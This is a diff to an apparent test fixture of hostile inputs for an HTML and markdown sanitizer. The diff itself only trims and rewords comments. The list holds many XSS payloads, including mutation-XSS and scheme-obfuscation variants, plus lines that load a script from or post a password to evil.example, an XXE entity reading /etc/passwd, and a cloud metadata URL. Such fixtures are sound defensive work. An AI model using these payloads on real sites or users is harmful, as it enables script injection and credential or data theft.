@@ -1,9 +1,5 @@
-/**
- * Ways in which texts have become scripts, by class: elements, attributes, schemes, comments, broken markup, other namespaces, parsers that
- * disagree.
- */
+/** Attacks by class: elements, attributes, schemes, comments, broken markup, other namespaces, parsers that disagree. */
 export const hostileTexts: readonly string[] = [
-  // Elements that run, load or cover.
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
   '<img src=x onerror=alert(1)>',
@@ -25,7 +21,6 @@ export const hostileTexts: readonly string[] = [
   '<form action=https://evil.example><input name=password><button>go</button></form>',
   '<div style="position:fixed;inset:0;background:url(//evil.example)">',
   '<table background="javascript:alert(1)"><td>',
-  // Attributes, quoted or not.
   '<p onclick=alert(1)>',
   '<a href="https://x.example" onmouseover="alert(1)">x</a>',
   '<a href="https://x.example" target=_blank ping=//evil.example>x</a>',
@@ -33,7 +28,6 @@ export const hostileTexts: readonly string[] = [
   "' autofocus onfocus=alert(1) '",
   '"><script>alert(1)</script>',
   '<p id=body class=x style=color:red>',
-  // Schemes, and how they hide.
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)',
   ' javascript:alert(1)',
@@ -57,14 +51,12 @@ export const hostileTexts: readonly string[] = [
   'http://169.254.169.254/latest/meta-data',
   'https://user:pass@x.example/',
   'mailto:a@x.example?subject="><script>alert(1)</script>',
-  // Comments, sections and doctypes.
   '<!-- --><script>alert(1)</script> -->',
   '<!--><img src=x onerror=alert(1)>-->',
   '<!--[if IE]><script>alert(1)</script><![endif]-->',
   '<![CDATA[<script>alert(1)</script>]]>',
   '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
   '<?xml-stylesheet href="javascript:alert(1)"?>',
-  // Broken markup.
   '<<script>alert(1)//<</script>',
   '<script/x>alert(1)</script>',
   '<img src=x onerror=alert(1)//',
@@ -75,7 +67,7 @@ export const hostileTexts: readonly string[] = [
   '<\u0000script>alert(1)</script>',
   '<script\u2028>alert(1)</script>',
   '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
-  // What reads otherwise the second time.
+  // Markup that is parsed differently the second time.
   '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
   '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
@@ -89,7 +81,6 @@ export const hostileTexts: readonly string[] = [
   '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
   '&lt;script&gt;alert(1)&lt;/script&gt;',
   '&amp;lt;script&amp;gt;',
-  // Markdown that becomes markup.
   '[x](javascript:alert(1))',
   '[x](JAVASCRIPT:alert(1))',
   '[x]( javascript:alert(1))',
